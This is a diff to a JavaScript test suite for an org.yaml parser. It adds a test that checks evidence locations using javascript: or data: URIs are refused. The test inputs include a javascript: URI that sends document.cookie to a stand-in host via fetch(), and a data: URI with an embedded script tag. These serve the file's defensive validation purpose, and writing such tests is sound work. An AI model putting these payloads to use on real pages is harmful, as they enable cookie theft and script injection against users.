@@ -227,6 +227,13 @@ describe('parseOrgFile: refusals name file, line and field', () => {
     expect(problems(insertAfter(26, '    validFor: P1Y'))).toEqual(['org.yaml:27: evidence[0].validFor: give validUntil or validFor, not both']);
   });
 
+  it('an evidence location a viewer would run rather than open (javascript:, data:) is refused at its line', () => {
+    const why = 'must be a URI of one of the schemes https, http, s3, gs, file, smb (where a document is kept, not a script)';
+    expect(problems(replaceLine(24, '    location: "javascript:fetch(`//x.example/`+document.cookie)"'))).toEqual([`org.yaml:24: evidence[0].location: ${why}`]);
+    expect(problems(replaceLine(31, '    location: data:text/html,<script>alert(1)</script>'))).toEqual([`org.yaml:31: evidence[1].location: ${why}`]);
+    expect(parseOrgFile(replaceLine(31, '    location: S3://kowloon/ev/2.pdf'), 'org.yaml').evidence[1]!.location).toBe('S3://kowloon/ev/2.pdf');
+  });
+
   it('a period that is not ISO-8601', () => {
     const [p, ...rest] = problems(replaceLine(33, '    validFor: 6 months'));
     expect(rest).toEqual([]);
